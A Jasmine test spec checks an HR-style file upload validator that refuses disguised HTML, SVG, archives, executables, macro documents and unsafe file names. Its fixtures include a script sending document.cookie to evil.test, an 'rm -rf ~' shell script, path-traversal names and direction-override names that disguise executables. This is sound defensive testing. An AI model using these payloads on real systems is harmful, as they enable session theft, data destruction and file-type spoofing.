import { HttpProblem } from '../errors';
import { DatabaseFileStore, FileModel } from './file-store';
import {
  sampleExe,
  sampleGif,
  sampleHeic,
  sampleJpeg,
  sampleOffice,
  sampleOlePackage,
  sampleOpenDocument,
  samplePdf,
  samplePng,
  sampleProgram,
  sampleWebp,
  zip,
} from './sample-files';
import { attachmentPolicy, checkUpload, imagePolicy, storeUpload, type UploadPolicy } from './upload-check';

const OWNER = 'spec.upload-check';

/** The problem a refused upload throws (failing the spec if it was accepted). */
async function refusal(bytes: Buffer | string, claimedName: string, options: { claimedType?: string; policy?: UploadPolicy } = {}): Promise<HttpProblem> {
  try {
    const accepted = await checkUpload({
      bytes: Buffer.from(bytes),
      claimedName,
      claimedType: options.claimedType,
      policy: options.policy ?? attachmentPolicy,
    });
    throw new Error(`accepted ${claimedName} as ${JSON.stringify(accepted)}`);
  } catch (error) {
    if (!(error instanceof HttpProblem)) throw error;
    return error;
  }
}

const accepted = (bytes: Buffer | string, claimedName: string, policy = attachmentPolicy) => checkUpload({ bytes: Buffer.from(bytes), claimedName, policy });

describe('checkUpload', () => {
  it('accepts every type of the attachment allow-list by its content, named as its content is', async () => {
    const files: [Buffer | string, string, string][] = [
      [samplePdf(), 'Payslip March.pdf', 'application/pdf'],
      [samplePng(), 'screenshot.png', 'image/png'],
      [sampleJpeg(), 'scan.jpeg', 'image/jpeg'],
      [sampleJpeg(), 'IMG_0001.JPG', 'image/jpeg'],
      [sampleGif(), 'dot.gif', 'image/gif'],
      [sampleWebp(), 'photo.webp', 'image/webp'],
      [sampleHeic(), 'IMG_0002.HEIC', 'image/heic'],
      [sampleOffice('docx'), 'Contract.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      [sampleOffice('xlsx'), 'Hours.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
      [sampleOffice('pptx'), 'Onboarding.pptx', 'application/vnd.openxmlformats-officedocument.presentationml.presentation'],
      [sampleOpenDocument('odt'), 'Letter.odt', 'application/vnd.oasis.opendocument.text'],
      [sampleOpenDocument('ods'), 'Budget.ods', 'application/vnd.oasis.opendocument.spreadsheet'],
      ['Dear HR,\nmy badge does not open the garage. Ñandú!\n', 'note.txt', 'text/plain'],
      ['\uFEFFdate,hours\n2025-03-01,8\n', 'hours.csv', 'text/csv'],
    ];
    for (const [bytes, name, type] of files) {
      const checked = await accepted(bytes, name);
      expect(checked)
        .withContext(name)
        .toEqual({ type, extension: name.split('.').pop()!.toLowerCase(), safeName: name, size: Buffer.from(bytes).length });
    }
  });

  it('gives a name without an extension the one of its content, and an empty name a neutral one', async () => {
    expect((await accepted(samplePdf(), 'Payslip March')).safeName).toBe('Payslip March.pdf');
    expect((await accepted(sampleJpeg(), '')).safeName).toBe('attachment.jpg');
    expect((await accepted(samplePng(), '', imagePolicy)).safeName).toBe('image.png');
    expect((await accepted(samplePdf(), '.pdf')).safeName).toBe('attachment.pdf');
  });

  it('refuses an HTML file renamed .pdf, saying what it is', async () => {
    const html = '<!DOCTYPE html><html><body><script>fetch("/api/me")</script></body></html>';
    const problem = await refusal(html, 'payslip.pdf', { claimedType: 'application/pdf' });
    expect(problem.status).toBe(415);
    expect(problem.code).toBe('file_type_not_allowed');
    expect(problem.detail).toContain('(named .pdf, sent as application/pdf) is HTML');
    expect(problem.detail).toContain('Upload a PDF, an image');
    // Only a well-formed media type is repeated back.
    expect((await refusal(html, 'payslip.pdf', { claimedType: '<b>pdf</b>' })).detail).not.toContain('<b>');
    // Nor does a byte-order mark or white space in front of it make it text.
    expect((await refusal(`\uFEFF \n\t${html}`, 'notes.txt')).status).toBe(415);
  });

  it('refuses SVG, with script or without, whatever it is called', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>';
    for (const name of ['drawing.svg', 'drawing.png', 'drawing.txt', 'drawing']) {
      const problem = await refusal(svg, name, { claimedType: 'image/svg+xml' });
      expect(problem.status).withContext(name).toBe(415);
      expect(problem.detail).withContext(name).toContain('SVG');
    }
    const withDeclaration = await refusal(`<?xml version="1.0"?>${svg}`, 'drawing.svg');
    expect(withDeclaration.detail).toContain('XML (application/xml)');
    const forTheHandbook = await refusal(svg, 'logo.svg', { policy: imagePolicy });
    expect(forTheHandbook.detail).toContain('Upload a PNG, JPEG, GIF or WebP image (SVG is not accepted).');
  });

  it('refuses archives, programs and macro-enabled documents, even under an allowed name', async () => {
    const cases: [Buffer, string, string][] = [
      [zip({ 'payslips/march.pdf': samplePdf() }), 'payslips.zip', 'ZIP (application/zip)'],
      [zip({ 'payslips/march.pdf': samplePdf() }), 'payslips.docx', 'ZIP (application/zip)'],
      [sampleExe(), 'invoice.pdf', 'EXE (application/x-msdownload)'],
      [sampleOffice('docm'), 'report.docx', 'DOCM'],
      [zip({ 'META-INF/MANIFEST.MF': 'Main-Class: Evil\n' }), 'tool.jar', 'JAR'],
    ];
    for (const [bytes, name, what] of cases) {
      const problem = await refusal(bytes, name);
      expect(problem.status).withContext(name).toBe(415);
      expect(problem.detail).withContext(name).toContain(what);
    }
  });

  it('refuses content that could run although its type is accepted: a PDF that is also a web page, macros, controls, embedded programs', async () => {
    const cases: [Buffer, string, string][] = [
      [Buffer.from('%PDF-1.4\n<html><script>document.location="https://evil.test/?"+document.cookie</script></html>'), 'payslip.pdf', 'web page markup'],
      [Buffer.concat([samplePdf(), Buffer.from('\n<!DOCTYPE html><body onload="alert(1)">')]), 'scan.pdf', 'web page markup'],
      [sampleOffice('docx', { 'word/vbaProject.bin': Buffer.from('VBA project') }), 'letter.docx', 'macros or controls (word/vbaProject.bin)'],
      [sampleOffice('xlsx', { 'xl/activeX/activeX1.bin': Buffer.from('control') }), 'hours.xlsx', 'macros or controls (xl/activeX/activeX1.bin)'],
      [sampleOpenDocument('odt', { 'Basic/Standard/Module1.xml': '<script:module/>' }), 'letter.odt', 'macros or controls (Basic/Standard/Module1.xml)'],
      [
        sampleOffice('docx', { 'word/embeddings/oleObject1.bin': sampleOlePackage(sampleProgram()) }),
        'form.docx',
        'program or an oversized object embedded in it (word/embeddings/oleObject1.bin)',
      ],
      [sampleOffice('pptx', { 'ppt/embeddings/setup.exe': sampleExe() }), 'deck.pptx', 'ppt/embeddings/setup.exe'],
      [sampleOpenDocument('ods', { 'Object 1': sampleOlePackage(sampleProgram()) }), 'sheet.ods', '(Object 1)'],
    ];
    for (const [bytes, name, what] of cases) {
      const problem = await refusal(bytes, name);
      expect([problem.status, problem.code]).withContext(name).toEqual([422, 'file_unsafe']);
      expect(problem.detail).withContext(name).toContain(what);
    }
    // What such documents usually hold stays welcome: a spreadsheet embedded in a letter, a PDF with text.
    await expectAsync(
      accepted(
        sampleOffice('docx', { 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': sampleOffice('xlsx'), 'word/media/image1.png': samplePng() }),
        'letter.docx',
      ),
    ).toBeResolved();
    await expectAsync(accepted(samplePdf('<< /Title (Offer letter: salary <EUR 40,000>) >>'), 'offer.pdf')).toBeResolved();
  });

  it('refuses a name whose extension disagrees with the content, saying what the content is', async () => {
    const problem = await refusal(samplePng(), 'contract.pdf');
    expect(problem.status).toBe(415);
    expect(problem.detail).toContain('The name ends in .pdf but the content is a PNG image; name it .png');
    expect((await refusal(samplePdf(), 'contract.exe')).detail).toContain('the content is a PDF');
    // Trailing dots do not hide an extension (Windows drops them when saving).
    expect((await refusal(samplePdf(), 'contract.exe. . ')).detail).toContain('The name ends in .exe');
    expect((await refusal(samplePdf(), 'version 2.1')).detail).toContain('The name ends in .1');
  });

  it('accepts plain text only as UTF-8 without NUL bytes, in a .txt or .csv file', async () => {
    const withNul = await refusal('name,amount\n\0\0evil,1\n', 'export.csv');
    expect(withNul.status).toBe(415);
    expect(withNul.detail).toContain('plain text is accepted only as UTF-8 without NUL bytes');
    expect((await refusal(Buffer.from('caf\xe9 au lait\n', 'latin1'), 'menu.txt')).status)
      .withContext('Latin-1')
      .toBe(415);
    expect((await refusal('just words', 'readme')).status)
      .withContext('no extension')
      .toBe(415);
    expect((await refusal('just words', 'page.html')).status)
      .withContext('.html')
      .toBe(415);
    expect((await refusal('#!/bin/sh\nrm -rf ~\n', 'notes.txt')).status)
      .withContext('a script')
      .toBe(415);
    expect((await refusal('just words', 'notes.txt', { policy: imagePolicy })).detail).not.toContain('plain text');
  });

  it('refuses an oversized file with 413, naming the limit', async () => {
    const big = Buffer.concat([samplePdf(), Buffer.alloc(attachmentPolicy.maxBytes)]);
    const problem = await refusal(big, 'scan.pdf');
    expect(problem.status).toBe(413);
    expect(problem.code).toBe('file_too_large');
    expect(problem.detail).toContain('A file may be at most 10 MB and this one is 10.1 MB');
    const image = await refusal(Buffer.concat([samplePng(), Buffer.alloc(imagePolicy.maxBytes)]), 'big.png', { policy: imagePolicy });
    expect(image.detail).toContain('An image may be at most 2 MB');
    expect((await accepted(Buffer.concat([samplePdf(), Buffer.alloc(attachmentPolicy.maxBytes - 1024)]), 'scan.pdf')).type).toBe('application/pdf');
  });

  it('refuses an empty file', async () => {
    const problem = await refusal(Buffer.alloc(0), 'empty.pdf');
    expect([problem.status, problem.code]).toEqual([400, 'file_empty']);
  });

  it('refuses names with a path, control characters or direction overrides', async () => {
    const names = [
      '../etc/passwd.pdf',
      '..\\..\\boot.ini.pdf',
      '/etc/passwd.pdf',
      'C:\\Users\\ana\\payslip.pdf',
      'payslip\u0007.pdf',
      'payslip\n.pdf',
      'nul\u0000.pdf',
      'payslip\u007f.pdf',
      'payslip\u0085.pdf',
      'invoice\u202Efdp.exe',
      'invoice\u2067fdp.exe\u2069.pdf',
    ];
    for (const name of names) {
      const problem = await refusal(samplePdf(), name);
      expect([problem.status, problem.code]).withContext(JSON.stringify(name)).toEqual([400, 'file_name_invalid']);
      expect(problem.detail)
        .withContext(JSON.stringify(name))
        .toMatch(/^A file name may not contain .+; rename the file and upload it again\.$/);
    }
    expect((await refusal(samplePdf(), '../etc/passwd.pdf')).detail).toContain('a path or a path separator');
    expect((await refusal(samplePdf(), 'a\u0007.pdf')).detail).toContain('control characters');
    expect((await refusal(samplePdf(), 'a\u202Efdp.pdf')).detail).toContain('text-direction override');
  });

  it('tidies what is merely untidy in a name', async () => {
    const named = async (name: string) => (await accepted(samplePdf(), name)).safeName;
    expect(await named('  Payslip \u00a0 March\u30002025 .pdf')).toBe('Payslip March 2025.pdf');
    expect(await named('...hidden.pdf')).toBe('hidden.pdf');
    expect(await named('report.pdf. .')).toBe('report.pdf');
    expect(await named('CON.pdf')).toBe('_CON.pdf');
    expect(await named('lpt1')).toBe('_lpt1.pdf');
    expect(await named('Q3: "final"?.pdf')).toBe('Q3_ _final__.pdf');
    expect(await named('Nomina\u0301.pdf'))
      .withContext('NFC')
      .toBe('Nominá.pdf');
    expect(await named('Report.PDF')).toBe('Report.PDF');

    const long = await named(`${'Informe anual de vacaciones '.repeat(10)}.pdf`);
    expect([...long].length).toBeLessThanOrEqual(120);
    expect(long).toMatch(/^Informe anual de vacaciones .*[^ .]\.pdf$/);
    // Cut between whole characters: a family emoji is kept whole or dropped whole.
    const emoji = await named(`${'a'.repeat(110)}👨‍👩‍👧‍👦👨‍👩‍👧‍👦.pdf`);
    expect(emoji).toBe(`${'a'.repeat(110)}.pdf`);
  });
});

describe('storeUpload', () => {
  const files = new DatabaseFileStore();
  const stored = () => FileModel.countDocuments({ ownerKind: OWNER });

  afterAll(() => FileModel.deleteMany({ ownerKind: OWNER }));

  it('stores nothing for a refused upload, and an accepted one under its checked type and safe name', async () => {
    const before = await stored();
    const refused: [Buffer | string, string][] = [
      ['<html><script>alert(1)</script></html>', 'payslip.pdf'],
      ['<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'logo.svg'],
      [Buffer.concat([samplePdf(), Buffer.alloc(attachmentPolicy.maxBytes)]), 'huge.pdf'],
      [samplePdf(), '../etc/passwd.pdf'],
      [samplePdf(), 'payslip\u0007\u202Efdp.exe'],
      ['a\0b', 'notes.txt'],
      [Buffer.alloc(0), 'empty.pdf'],
    ];
    for (const [bytes, claimedName] of refused) {
      await expectAsync(storeUpload(files, { bytes: Buffer.from(bytes), claimedName, policy: attachmentPolicy, ownerKind: OWNER }))
        .withContext(claimedName)
        .toBeRejectedWithError(HttpProblem);
    }
    expect(await stored()).toBe(before);

    const { file, checked } = await storeUpload(files, {
      bytes: samplePdf(),
      claimedName: ' Payslip  March.pdf',
      claimedType: 'text/html',
      policy: attachmentPolicy,
      ownerKind: OWNER,
    });
    expect(await stored()).toBe(before + 1);
    expect(checked.type).toBe('application/pdf');
    const read = await files.get(file.id);
    expect(read).toEqual(jasmine.objectContaining({ type: 'application/pdf', name: 'Payslip March.pdf', ownerKind: OWNER, size: samplePdf().length }));
    expect(Buffer.compare(read!.content, samplePdf())).toBe(0);
  });
});
